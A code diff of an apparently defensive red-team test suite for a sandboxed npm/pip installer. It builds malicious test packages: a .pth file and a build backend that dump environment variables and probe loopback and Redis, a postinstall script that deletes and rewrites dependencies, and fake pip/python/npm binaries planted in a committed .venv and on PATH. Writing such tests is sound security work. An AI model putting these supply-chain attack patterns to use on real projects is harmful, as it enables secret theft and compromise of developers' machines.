@@ -13,8 +13,10 @@ import assert from 'node:assert/strict';
 import fs from 'node:fs/promises';
 import net from 'node:net';
 import path from 'node:path';
+import { installReport } from '../../src/capabilities/project/install-report.ts';
 import { checkInstall, runInstall, type InstallRun } from '../../src/host/install/install-project.ts';
 import type { DependencyRegistries } from '../../src/host/install/registries.ts';
+import { runSandboxed } from '../../src/host/sandbox/run-sandboxed.ts';
 import { DEFAULT_SANDBOX_SETTINGS, type SandboxSettings } from '../../src/host/sandbox/sandbox-settings.ts';
 import { startNpmRegistry, type NpmRegistry } from '../helpers/npm-registry.ts';
 import { startPythonIndex, type PythonIndex } from '../helpers/python-index.ts';
@@ -97,7 +99,7 @@ const viaProxy = (method, target, host) => new Promise((resolve) => {
 /** The same from a wheel's `.pth`, in Python: it runs at `pip freeze`, at the end of the install. */
 function pythonAttack(ports: { canary: number; canary6: number; redis: number }, marker: string): string {
   return `
-import json, os, socket, urllib.request
+import json, os, socket, sys, urllib.request
 C = json.loads(${JSON.stringify(JSON.stringify({ ...ports, marker }))})
 def tcp(family, host, port, payload):
     try:
@@ -120,7 +122,9 @@ def via_proxy_get(url):
         return "status %s" % e.code
     except Exception as e:
         return "error " + type(e).__name__
-if not os.path.exists("py-attack-results.json") and os.path.isdir(".venv"):
+# Run by the venv's interpreter (<project>/.venv/bin/python), wherever its working folder is.
+RESULTS = os.path.join(os.path.dirname(os.path.dirname(os.path.dirname(sys.executable))), "py-attack-results.json")
+if not os.path.exists(RESULTS):
     r = {}
     r["direct"] = tcp(socket.AF_INET, "127.0.0.1", C["canary"], ("direct " + os.getcwd()).encode())
     r["direct6"] = tcp(socket.AF_INET6, "::1", C["canary6"], b"direct6") if C["canary6"] else "no ipv6"
@@ -132,7 +136,30 @@ if not os.path.exists("py-attack-results.json") and os.path.isdir(".venv"):
     except Exception as e:
         r["marker"] = "error " + type(e).__name__
     r["seen"] = json.dumps(dict(os.environ)) + "\\n" + os.getcwd()
-    open("py-attack-results.json", "w").write(json.dumps(r))
+    open(RESULTS, "w").write(json.dumps(r))
+`;
+}
+
+/**
+ * A source distribution's in-tree build backend: pip runs it to build the wheel (scripts allowed), and
+ * it attacks first, then builds a real wheel so that the install goes on.
+ */
+function buildBackend(name: string, version: string): string {
+  return `
+import base64, hashlib, os, zipfile
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    exec(open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "attack.py")).read(), {"__name__": "attack"})
+    dist = "${name}-${version}.dist-info"
+    files = {"${name}.py": b"", dist + "/METADATA": b"Metadata-Version: 2.1\\nName: ${name}\\nVersion: ${version}\\n",
+             dist + "/WHEEL": b"Wheel-Version: 1.0\\nGenerator: sopworks-test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"}
+    digest = lambda data: "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
+    record = "".join(f"{path},{digest(data)},{len(data)}\\n" for path, data in files.items()) + dist + "/RECORD,,\\n"
+    wheel = "${name}-${version}-py3-none-any.whl"
+    with zipfile.ZipFile(os.path.join(wheel_directory, wheel), "w") as out:
+        for path, data in files.items():
+            out.writestr(path, data)
+        out.writestr(dist + "/RECORD", record)
+    return wheel
 `;
 }
 
@@ -151,7 +178,6 @@ describe('red team: the install step', function () {
   let hostDir: string;
   let marker: string;
   let userEnv: NodeJS.ProcessEnv;
-  let pthProject: string | null = null;
   const npmRegistries = (): DependencyRegistries => ({ npm: npm.url, pipIndex: null, pipFindLinks: null });
   const pipRegistries = (): DependencyRegistries => ({ npm: null, pipIndex: null, pipFindLinks: wheels.url });
 
@@ -170,6 +196,20 @@ describe('red team: the install step', function () {
       'attack.js': npmAttack(ports, marker),
     });
     await wheels.addWheelFiles('attackpth', '1.0.0', { 'attackpth.py': pythonAttack(ports, marker), 'attackpth-hook.pth': 'import attackpth\n' });
+    await wheels.addSdist('attackbuild', '1.0.0', {
+      'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
+      'backend.py': buildBackend('attackbuild', '1.0.0'),
+      'attack.py': pythonAttack(ports, marker),
+      'PKG-INFO': 'Metadata-Version: 2.1\nName: attackbuild\nVersion: 1.0.0\n',
+    });
+    await npm.publishFiles({ 'package.json': JSON.stringify({ name: 'mini-slug', version: '1.0.2', main: 'index.js' }), 'index.js': 'module.exports = 1;\n' });
+    await npm.publishFiles({ 'package.json': JSON.stringify({ name: 'tiny-dep', version: '2.0.0', main: 'index.js' }), 'index.js': 'module.exports = 2;\n' });
+    const sabotage = `const fs = require('fs'); fs.rmSync('../mini-slug', { recursive: true }); const m = JSON.parse(fs.readFileSync('../tiny-dep/package.json')); m.version = '1.0.0'; fs.writeFileSync('../tiny-dep/package.json', JSON.stringify(m));`;
+    await npm.publishFiles({
+      'package.json': JSON.stringify({ name: 'sabotage-pkg', version: '1.0.0', scripts: { postinstall: 'node sabotage.js' } }),
+      'sabotage.js': sabotage,
+    });
+    await wheels.addWheel('tinyslug', '1.0.0', 'def slug(text):\n    return "-".join(text.lower().split())\n');
   });
 
   after(async () => {
@@ -237,10 +277,10 @@ describe('red team: the install step', function () {
     ['bubblewrap', bubblewrap, 'bubblewrap'],
     ['--allow-unsandboxed and unshare --net', fallback, 'unsandboxed'],
   ] as const) {
-    it(`a wheel's .pth run by pip freeze under ${label}: no host loopback, Redis or listener through the proxy`, async function () {
+    it(`an sdist's build backend (scripts allowed) under ${label}: no host loopback, Redis or listener through the proxy`, async function () {
       if (mode !== 'bubblewrap') requireSystem(this, NETWORK_NAMESPACE);
-      const { projectDir, run, results } = await attack({ 'requirements.txt': 'attackpth==1.0.0\n' }, pipRegistries(), sandbox, 'py-attack-results.json');
-      if (mode === 'bubblewrap') pthProject = projectDir;
+      const { projectDir, run, results } = await attack({ 'requirements.txt': 'attackbuild==1.0.0\n' }, pipRegistries(), sandbox, 'py-attack-results.json');
+      assert.equal(await fs.readFile(path.join(projectDir, 'requirements.lock'), 'utf8'), 'attackbuild==1.0.0\n', 'built, installed and locked');
       assert.equal(run.outcome.mode, mode);
       assert.match(results.direct!, /^error/);
       assert.match(results.direct6!, /^(error|no ipv6)/);
@@ -253,20 +293,208 @@ describe('red team: the install step', function () {
     });
   }
 
-  it("with scripts off, a wheel's .pth already in the venv does not run during the next install (Python starts without site)", async () => {
-    // The project of the bubblewrap case above: its venv holds the package and its .pth, and the
-    // sandbox's python3 is now the venv's. (A first install with scripts off is the dependency suite's.)
-    assert.ok(pthProject, 'the bubblewrap .pth case ran first');
-    await fs.rm(path.join(pthProject, 'py-attack-results.json'));
-    await fs.writeFile(path.join(pthProject, 'requirements.txt'), 'attackpth>=1.0\n');
-    const check = await checkInstall({ projectDir: pthProject, registries: pipRegistries(), scripts: false, env: userEnv });
-    const run = await runInstall(
-      { ...check, plan: check.plan! },
-      { projectDir: pthProject, registries: pipRegistries(), scripts: false, network: true, sandbox: bubblewrap, wallSeconds: 240 },
-    );
-    assert.equal(run.outcome.exitCode, 0, run.outcome.output);
-    assert.equal(await fs.readFile(path.join(pthProject, 'requirements.lock'), 'utf8'), 'attackpth==1.0.0\n', 'installed and locked');
-    await assert.rejects(fs.access(path.join(pthProject, 'py-attack-results.json')), 'the .pth did not run');
+  it("a wheel's .pth never runs while dependencies install, scripts off or on (pip's Python starts isolated, without site)", async () => {
+    const projectDir = await tempDir();
+    for (const [scripts, requirement] of [
+      [false, 'attackpth==1.0.0'],
+      [true, 'attackpth>=1.0'],
+    ] as const) {
+      await fs.writeFile(path.join(projectDir, 'requirements.txt'), `${requirement}\n`);
+      const check = await checkInstall({ projectDir, registries: pipRegistries(), scripts, env: userEnv });
+      const run = await runInstall(
+        { ...check, plan: check.plan! },
+        { projectDir, registries: pipRegistries(), scripts, network: true, sandbox: bubblewrap, wallSeconds: 240, env: userEnv },
+      );
+      assert.equal(run.outcome.exitCode, 0, run.outcome.output);
+      assert.deepEqual(run.unmet, []);
+      assert.equal(await fs.readFile(path.join(projectDir, 'requirements.lock'), 'utf8'), 'attackpth==1.0.0\n', 'installed and locked');
+      const [lib] = await fs.readdir(path.join(projectDir, '.venv', 'lib'));
+      await fs.access(path.join(projectDir, '.venv', 'lib', lib!, 'site-packages', 'attackpth-hook.pth'));
+      await assert.rejects(fs.access(path.join(projectDir, 'py-attack-results.json')), `the .pth did not run (scripts ${scripts ? 'on' : 'off'})`);
+    }
+  });
+
+  describe("project files never choose the installer's code (issue 41)", () => {
+    /** Python that, wherever it runs, leaves a marker in its working folder and on the host. */
+    const pythonPlant = (tag: string) =>
+      `import os\nfor p in (os.path.join(os.getcwd(), "PWNED-${tag}"), ${JSON.stringify(marker)} + "-${tag}"):\n    try: open(p, "w").write("pwned")\n    except Exception: pass\n`;
+    /** A program that does the same from a shell script, and exits 0 as if it had done its job. */
+    const shellPlant = (tag: string) => `#!/bin/sh\necho pwned > "$PWD/PWNED-${tag}" 2>/dev/null\necho pwned > "${marker}-${tag}" 2>/dev/null\nexit 0\n`;
+    const FAKE_VENV = { '.venv/pyvenv.cfg': 'home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.0\n' };
+    const fakePrograms = (dir: string, names: string[]) =>
+      Object.fromEntries(names.map((name) => [`${dir}/${name}`, shellPlant(`${dir.replace(/\W/g, '')}-${name}`)]));
+
+    async function write(projectDir: string, files: Record<string, string>): Promise<void> {
+      for (const [name, content] of Object.entries(files)) {
+        await fs.mkdir(path.dirname(path.join(projectDir, name)), { recursive: true });
+        await fs.writeFile(path.join(projectDir, name), content, { mode: /(^|\/)bin\/|^tools\//.test(name) ? 0o755 : 0o644 });
+      }
+    }
+
+    async function install(projectDir: string, registries: DependencyRegistries, sandbox: SandboxSettings): Promise<InstallRun> {
+      const check = await checkInstall({ projectDir, registries, scripts: false, env: userEnv });
+      assert.deepEqual(check.refusals, []);
+      return runInstall({ ...check, plan: check.plan! }, { projectDir, registries, scripts: false, network: true, sandbox, wallSeconds: 240, env: userEnv });
+    }
+
+    /** No marker in the project (left there in any mode, copied back outside bubblewrap) nor next to the host's. */
+    async function assertNothingRan(projectDir: string): Promise<void> {
+      const left = (await fs.readdir(projectDir, { recursive: true })).filter((name) => /PWNED/.test(String(name)));
+      assert.deepEqual(left, [], 'no plant ran in the project');
+      const host = (await fs.readdir(hostDir)).filter((name) => name.startsWith('PWNED'));
+      assert.deepEqual(host, [], 'no plant ran on the host');
+    }
+
+    async function assertNpmInstalled(projectDir: string, run: InstallRun): Promise<void> {
+      assert.equal(run.outcome.exitCode, 0, run.outcome.output);
+      const installed = JSON.parse(await fs.readFile(path.join(projectDir, 'node_modules', 'mini-slug', 'package.json'), 'utf8'));
+      assert.equal(installed.version, '1.0.2', 'the real npm installed the package');
+    }
+
+    async function assertPipInstalled(projectDir: string, run: InstallRun): Promise<void> {
+      assert.equal(run.outcome.exitCode, 0, run.outcome.output);
+      assert.equal(await fs.readFile(path.join(projectDir, 'requirements.lock'), 'utf8'), 'tinyslug==1.0.0\n', 'the real pip installed and locked it');
+      const site = await fs.readdir(path.join(projectDir, '.venv', 'lib'));
+      await fs.access(path.join(projectDir, '.venv', 'lib', site[0]!, 'site-packages', 'tinyslug.py'));
+    }
+
+    const NPM_PROJECT = { 'package.json': JSON.stringify({ name: 'p', version: '1.0.0', dependencies: { 'mini-slug': '^1.0.0' } }) };
+    const PIP_PROJECT = { 'requirements.txt': 'tinyslug==1.0.0\n' };
+
+    for (const [label, sandbox, needsNamespace] of [
+      ['bubblewrap', bubblewrap, false],
+      ['the fallback and unshare --net', fallback, true],
+    ] as const) {
+      it(`a project's pip package and stdlib look-alikes next to the manifest do not run as the installer (${label})`, async function () {
+        if (needsNamespace) requireSystem(this, NETWORK_NAMESPACE);
+        const projectDir = await tempDir();
+        await write(projectDir, {
+          ...PIP_PROJECT,
+          'pip/__init__.py': pythonPlant('pip-init'),
+          'pip/__main__.py': pythonPlant('pip-main'),
+          'subprocess.py': pythonPlant('subprocess'),
+          'venv.py': pythonPlant('venv'),
+          'ensurepip/__init__.py': pythonPlant('ensurepip'),
+          'sitecustomize.py': pythonPlant('sitecustomize'),
+          'usercustomize.py': pythonPlant('usercustomize'),
+        });
+        const run = await install(projectDir, pipRegistries(), sandbox);
+        await assertNothingRan(projectDir);
+        await assertPipInstalled(projectDir, run);
+      });
+
+      it(`a committed .venv with its own python3, pip, npm and node is never run by the install (${label})`, async function () {
+        if (needsNamespace) requireSystem(this, NETWORK_NAMESPACE);
+        const programs = fakePrograms('.venv/bin', ['python3', 'python', 'pip', 'npm', 'node', 'env', 'sh']);
+        const npmProject = await tempDir();
+        await write(npmProject, { ...NPM_PROJECT, ...FAKE_VENV, ...programs });
+        await assertNpmInstalled(npmProject, await install(npmProject, npmRegistries(), sandbox));
+        await assertNothingRan(npmProject);
+        const pipProject = await tempDir();
+        const site = '.venv/lib/python3.11/site-packages';
+        await write(pipProject, {
+          ...PIP_PROJECT,
+          ...FAKE_VENV,
+          ...programs,
+          [`${site}/pip/__init__.py`]: pythonPlant('venv-pip-init'),
+          [`${site}/pip/__main__.py`]: pythonPlant('venv-pip-main'),
+          [`${site}/zz-plant.pth`]: `import os; open(os.path.join(os.getcwd(), "PWNED-pth"), "w").write("pwned")\n`,
+        });
+        await assertPipInstalled(pipProject, await install(pipProject, pipRegistries(), sandbox));
+        await assertNothingRan(pipProject);
+        await assert.rejects(fs.access(path.join(pipProject, site, 'zz-plant.pth')), 'the venv is one sopworks made, not the committed one');
+      });
+
+      it(`a .venv changed by an earlier test round is not trusted by the next install (${label})`, async function () {
+        if (needsNamespace) requireSystem(this, NETWORK_NAMESPACE);
+        const projectDir = await tempDir();
+        await write(projectDir, PIP_PROJECT);
+        await assertPipInstalled(projectDir, await install(projectDir, pipRegistries(), sandbox));
+        // A test round of the project (any sandboxed command) rewrites the venv the install made.
+        const site = (await fs.readdir(path.join(projectDir, '.venv', 'lib')))[0];
+        const plant = [
+          `for name in python3 python pip npm node; do rm -f .venv/bin/$name; printf '%s' "$PLANT" > .venv/bin/$name; chmod +x .venv/bin/$name; done`,
+          `mkdir -p .venv/lib/${site}/site-packages/pip`,
+          `printf '%s' "$PY" > .venv/lib/${site}/site-packages/pip/__main__.py`,
+          `cp .venv/lib/${site}/site-packages/pip/__main__.py .venv/lib/${site}/site-packages/pip/__init__.py`,
+          `echo 'import os; open(os.path.join(os.getcwd(), "PWNED-pth"), "w").write("pwned")' > .venv/lib/${site}/site-packages/zz-plant.pth`,
+        ].join('\n');
+        const round = await runSandboxed({
+          argv: ['/bin/sh', '-c', `PLANT='${shellPlant('round').replace(/'/g, `'\\''`)}'; PY='${pythonPlant('round-pip').replace(/'/g, `'\\''`)}'\n${plant}`],
+          projectDir,
+          limits: { ...DEFAULT_SANDBOX_SETTINGS.limits, wallSeconds: 30 },
+          setting: sandbox.mode,
+          allowUnsandboxed: true,
+        });
+        assert.equal(round.exitCode, 0, round.output);
+        await fs.writeFile(path.join(projectDir, 'requirements.txt'), 'tinyslug>=1.0\n');
+        await assertPipInstalled(projectDir, await install(projectDir, pipRegistries(), sandbox));
+        await assertNothingRan(projectDir);
+      });
+
+      it(`a postinstall that removes or rewrites declared dependencies: the install fails naming each, never "installed" (${label})`, async function () {
+        if (needsNamespace) requireSystem(this, NETWORK_NAMESPACE);
+        const projectDir = await tempDir();
+        await write(projectDir, {
+          'package.json': JSON.stringify({
+            name: 'p',
+            version: '1.0.0',
+            dependencies: { 'mini-slug': '^1.0.0', 'tiny-dep': '^2.0.0', 'sabotage-pkg': '1.0.0' },
+          }),
+        });
+        const check = await checkInstall({ projectDir, registries: npmRegistries(), scripts: true, env: userEnv });
+        const run = await runInstall(
+          { ...check, plan: check.plan! },
+          { projectDir, registries: npmRegistries(), scripts: true, network: true, sandbox, wallSeconds: 240, env: userEnv },
+        );
+        assert.equal(run.outcome.exitCode, 0, 'npm itself succeeded');
+        assert.deepEqual(
+          run.unmet.map((u) => u.name),
+          ['mini-slug', 'tiny-dep'],
+        );
+        const report = installReport({
+          round: 1,
+          plan: check.plan,
+          outcome: run.outcome,
+          refusals: [],
+          notes: [],
+          lockfile: null,
+          scriptsSkipped: [],
+          skipped: null,
+          unmet: run.unmet,
+        });
+        assert.equal(report.passed, false);
+        assert.deepEqual(
+          report.failures.map((f) => `${f.name}: ${f.message}`),
+          [
+            'install: mini-slug: mini-slug@^1.0.0 (package.json) is not installed',
+            'install: tiny-dep: tiny-dep@^2.0.0 (package.json) is installed at 1.0.0, which does not satisfy it',
+          ],
+        );
+        assert.ok(!run.outcome.output.includes('sopworks-install-check'), "the check's own line is not in the output");
+      });
+
+      it(`a folder of the project on sopworks' own PATH does not lend the install its npm or python3 (${label})`, async function () {
+        if (needsNamespace) requireSystem(this, NETWORK_NAMESPACE);
+        const saved = process.env.PATH;
+        try {
+          for (const [files, registries, check] of [
+            [NPM_PROJECT, npmRegistries(), assertNpmInstalled],
+            [PIP_PROJECT, pipRegistries(), assertPipInstalled],
+          ] as const) {
+            const projectDir = await tempDir();
+            await write(projectDir, { ...files, ...fakePrograms('tools', ['npm', 'node', 'python3', 'python', 'pip']) });
+            process.env.PATH = `${path.join(projectDir, 'tools')}:${saved}`;
+            userEnv.PATH = process.env.PATH;
+            await check(projectDir, await install(projectDir, registries, sandbox));
+            await assertNothingRan(projectDir);
+          }
+        } finally {
+          process.env.PATH = saved;
+          userEnv.PATH = saved;
+        }
+      });
+    }
   });
 
   describe('manifests that name another source are refused before anything runs', () => {
